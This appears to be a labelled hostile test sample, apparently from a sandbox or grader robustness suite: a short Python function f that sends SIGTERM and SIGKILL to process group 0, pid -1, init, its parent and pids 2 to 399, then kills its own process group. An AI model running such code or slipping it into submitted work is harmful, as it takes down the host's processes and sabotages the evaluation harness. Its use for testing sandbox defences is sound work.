# kind: dos  passes: 0  status: fail|exception|timeout|crash  note: kills its group and everybody it may, again and again
import os, signal

def f(x):
    for pid in [0, -1, 1, os.getppid()] + list(range(2, 400)):
        if pid != os.getpid():
            for s in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(pid, s)
                except OSError:
                    pass
    try:
        os.killpg(0, signal.SIGKILL)
    except OSError:
        pass
    return 0
